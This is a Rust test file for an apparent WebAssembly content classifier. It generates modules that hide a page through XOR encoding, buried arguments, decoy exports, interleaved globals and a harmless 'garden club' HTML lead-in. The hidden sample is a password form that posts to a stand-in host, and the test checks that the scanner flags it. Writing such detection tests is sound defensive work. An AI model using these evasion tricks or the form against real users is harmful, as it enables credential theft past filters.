//! What comes first hides nothing that comes after it: other arguments, other exports, other globals, a
//! harmless beginning.

use super::{
    Class, at_least, class,
    room::{PAGE, plain},
};

/// A function that gives the letters of the page, one for each place, and nothing beyond.
fn letters() -> String {
    let hidden: Vec<u8> = PAGE.bytes().zip(0u8..).map(|(byte, at)| byte ^ at.wrapping_mul(5)).collect();
    format!(
        r#"(data (i32.const 1024) "{}")
        (func $letter (param $at i32) (result i32)
          (if (i32.ge_u (local.get $at) (i32.const {})) (then (return (i32.const 0))))
          (i32.and (i32.const 255) (i32.xor (i32.load8_u offset=1024 (local.get $at))
            (i32.mul (local.get $at) (i32.const 5)))))"#,
        plain(&hidden),
        PAGE.len()
    )
}

/// Hands the page over letter by letter, as the last of so many arguments.
fn last_of(arguments: usize) -> String {
    let others = "(i32.const 97) ".repeat(arguments - 1);
    let params = "i32 ".repeat(arguments);
    format!(
        r#"(module (import "page" "take" (func $take (param {params}))) (memory (export "memory") 2) {}
          (func (export "run") (local $i i32)
            (loop $next
              (call $take {others} (call $letter (local.get $i)))
              (local.set $i (i32.add (local.get $i) (i32.const 1)))
              (br_if $next (i32.lt_u (local.get $i) (i32.const {}))))))"#,
        letters(),
        PAGE.len()
    )
}

/// Gives the page to who asks for each letter, beside exports that are worth asking too.
fn asked_among(others: usize) -> String {
    let others: String = (0..others)
        .map(|number| {
            format!(
                r#"(func (export "a{number}") (param i32) (result i32)
                  (i32.add (i32.const 97) (i32.rem_u (local.get 0) (i32.const {}))))"#,
                number + 7
            )
        })
        .collect();
    format!(r#"(module (memory 2) {} {others} (export "zz" (func $letter)))"#, letters())
}

/// A harmless beginning that stands in the file, and a form behind it that is built.
fn known_beginning(built: &str) -> String {
    let begins = "<html><head><title>Welcome to the garden club</title></head><body>";
    let hidden: Vec<u8> = built.bytes().map(|byte| byte ^ 0x5a).collect();
    format!(
        r#"(module (memory (export "memory") 8) (data (i32.const 3000) "{begins}") (data (i32.const 1024) "{}")
          (func (export "run") (local $i i32)
            (memory.copy (i32.const 200000) (i32.const 3000) (i32.const {len}))
            (loop $letter
              (i32.store8 (i32.add (i32.const {at}) (local.get $i))
                (i32.xor (i32.load8_u offset=1024 (local.get $i)) (i32.const 90)))
              (local.set $i (i32.add (local.get $i) (i32.const 1)))
              (br_if $letter (i32.lt_u (local.get $i) (i32.const {}))))))"#,
        plain(&hidden),
        built.len(),
        len = begins.len(),
        at = 200_000 + begins.len(),
    )
}

/// Exported globals that spell the page: `before` others come first, another stands between each two, and
/// their order may be that of their names.
fn globals(before: usize, is_shuffled: bool) -> String {
    let other = |name: String| format!(r#"(global (export "{name}") i64 (i64.const -7777777777777777))"#);
    let mut text: Vec<String> = (0..before).map(|number| other(format!("b{number}"))).collect();
    let mut letters: Vec<String> = PAGE
        .bytes()
        .enumerate()
        .map(|(at, letter)| format!(r#"(global (export "g{at}") i32 (i32.const {letter}))"#))
        .collect();
    if is_shuffled {
        letters.sort_by_key(|text| std::cmp::Reverse(text.len() * 1000 + usize::from(text.as_bytes()[18])));
        letters.reverse();
        let half = letters.split_off(letters.len() / 2);
        letters = half.into_iter().rev().chain(letters).collect();
    }
    for (at, letter) in letters.into_iter().enumerate() {
        text.push(letter);
        text.push(other(format!("s{at}")));
    }
    format!("(module {})", text.concat())
}

#[test]
fn what_comes_first_hides_nothing() {
    let form = "<form action='https://c.example.invalid/in'>Password <input name='p'></form></body></html>";
    at_least(
        Class::PotentiallyUnwanted,
        &[
            ("the last of 80 arguments", last_of(80)),
            ("an export among those that spell other things", asked_among(9)),
            ("a harmless beginning", known_beginning(form)),
            ("globals between others", globals(0, false)),
            ("globals behind others", globals(5000, false)),
            ("globals in another order", globals(0, true)),
        ],
    );
    let note = "<p>The beds are planted, and the water tank was delivered on Monday.</p></body></html>";
    assert_eq!(class(&known_beginning(note)), Class::Clean);
}
